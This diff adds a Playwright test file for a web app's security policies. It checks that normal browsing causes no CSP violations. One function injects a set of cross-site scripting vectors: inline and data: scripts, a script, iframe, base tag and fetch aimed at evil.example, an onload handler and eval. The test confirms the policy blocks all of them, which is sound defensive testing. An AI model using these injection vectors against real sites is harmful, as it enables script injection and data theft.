@@ -1,0 +1,157 @@
+import type { Page } from '@playwright/test'
+import { uncheckableCookie } from '../accounts'
+import { expect, newCredentials, test } from '../fixtures'
+import { startSite } from '../site'
+
+/** What the browser has blocked on any page so far, or not understood of what is to be denied. */
+async function watchViolations(page: Page): Promise<string[]> {
+  const violations: string[] = []
+  page.on('console', (message) => {
+    if (message.text().includes('Permissions-Policy')) violations.push(message.text())
+  })
+  await page.exposeFunction('reportViolation', (words: string) => violations.push(words))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      // @ts-expect-error: Playwright has put this function there
+      window.reportViolation(`${effectiveDirective} ${blockedURI}`),
+    )
+  })
+  return violations
+}
+
+/** Marks the document, so that one that takes its place is noticed. */
+async function mark(page: Page): Promise<void> {
+  await page.evaluate(() => document.documentElement.setAttribute('data-same-document', ''))
+}
+
+const isMarked = (page: Page) => page.locator('html[data-same-document]').count()
+
+test.describe('a visitor who goes everywhere', () => {
+  test.use({ expectedErrors: /404 \(Not Found\)/ })
+
+  test('meets nothing that the policies block', async ({ page }) => {
+    const violations = await watchViolations(page)
+    const { email, password } = newCredentials()
+    const heading = page.getByRole('heading', { level: 1 })
+    const banner = page.getByText('Running in emulator mode.')
+
+    await page.goto('/')
+    await mark(page)
+    for (const [link, title] of [
+      ['Terms', 'Terms'],
+      ['Privacy', 'Privacy'],
+      ['Contact', 'Contact'],
+      ['Foyer', 'The front door'],
+    ] as const) {
+      await page.getByRole('link', { name: link, exact: true }).click()
+      await expect(heading).toContainText(title)
+    }
+    expect(await isMarked(page), 'static pages change softly').toBe(1)
+
+    await page.getByRole('link', { name: 'Come in' }).click()
+    await expect(page).toHaveURL('/login')
+    expect(await isMarked(page), 'a page with a policy of its own comes as a document').toBe(0)
+    await page.getByRole('button', { name: 'Make an account' }).click()
+    await page.getByLabel('Email').fill(email)
+    await page.getByLabel('Password').fill(password)
+    await page.getByRole('button', { name: 'Create account' }).click()
+    await expect(page).toHaveURL('/app')
+    await page.getByRole('button', { name: 'Sign out' }).click()
+    await expect(page).toHaveURL('/')
+    await page.goto('/login?next=%2Fdebug-config')
+    await page.getByLabel('Email').fill(email)
+    await page.getByLabel('Password').fill(password)
+    await page.getByRole('button', { name: 'Sign in' }).click()
+    await expect(page).toHaveURL('/debug-config')
+
+    for (const path of ['/share/no-such-note', '/app', '/app/below', '/no/such/page']) {
+      await page.goto(path)
+      await expect(banner).toBeVisible()
+    }
+    await page.context().clearCookies()
+    for (const path of ['/terms', '/privacy', '/contact', '/auth/success', '/auth/silent-refresh']) {
+      await page.goto(path)
+      await expect(banner).toBeVisible()
+    }
+    expect(violations).toEqual([])
+  })
+})
+
+test.describe('what somebody smuggles into a page', () => {
+  test.use({ expectedErrors: /Content Security Policy|404 \(Not Found\)/ })
+
+  for (const path of ['/', '/login', '/no/such/page']) {
+    test(`${path} does not run it`, async ({ page }) => {
+      const violations = await watchViolations(page)
+      await page.goto(path)
+      await page.evaluate(smuggle)
+      await expect
+        .poll(() => [...new Set(violations)].sort())
+        .toEqual([
+          'base-uri https://evil.example/',
+          'connect-src https://evil.example/',
+          'frame-src https://evil.example',
+          'script-src eval',
+          'script-src-attr inline',
+          'script-src-elem data',
+          'script-src-elem https://evil.example/script.js',
+          'script-src-elem inline',
+          'style-src-attr inline',
+          'style-src-elem inline',
+        ])
+      expect(await page.evaluate('window.bitten')).toBeUndefined()
+    })
+  }
+})
+
+/** As many ways to harm a page as fit into it. */
+function smuggle(): void {
+  const add = (name: string, attributes: Record<string, string>, text = '') => {
+    const element = document.createElement(name)
+    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+    element.textContent = text
+    document.body.append(element)
+  }
+  const harm = 'window.bitten = true'
+  add('script', {}, harm)
+  add('script', { src: `data:text/javascript,${harm}` })
+  add('script', { src: 'https://evil.example/script.js' })
+  add('img', { src: '/icon.svg', onload: harm })
+  add('p', { style: 'color: red' })
+  add('style', {}, 'p { color: red }')
+  add('iframe', { src: 'https://evil.example' })
+  add('base', { href: 'https://evil.example' })
+  fetch('https://evil.example').catch((error: unknown) => String(error))
+  // Later, as the browser allows it to whoever speaks through the debugger, as this test does.
+  setTimeout(() => {
+    try {
+      new Function(harm)()
+    } catch (error) {
+      if (!(error instanceof EvalError)) throw error
+    }
+  })
+}
+
+test.describe('when nobody can check the session', () => {
+  test.use({ expectedErrors: /(500|503) \(|React error #441/ })
+
+  test('the pages that say so are whole under their policies', async ({ page }) => {
+    test.setTimeout(180_000)
+    const settings = JSON.stringify({ apiKey: 'key', projectId: 'foyer-public' })
+    const site = await startSite({
+      env: { FIREBASE_WEBAPP_CONFIG: settings, SESSION_KEYS_URL: 'http://127.0.0.1:1/keys' },
+    })
+    try {
+      const violations = await watchViolations(page)
+      await page.context().addCookies([{ name: '__session', value: uncheckableCookie(), url: site.url }])
+      await page.goto(`${site.url}/app`)
+      await expect(page.getByRole('heading', { name: 'Back in a moment' })).toBeVisible()
+      await expect(page.locator('body')).toHaveCSS('display', 'grid')
+      await page.goto(`${site.url}/auth/success`)
+      await expect(page.getByRole('heading', { name: 'Internal Server Error' })).toBeVisible()
+      expect(violations).toEqual([])
+    } finally {
+      await site.stop()
+    }
+  })
+})
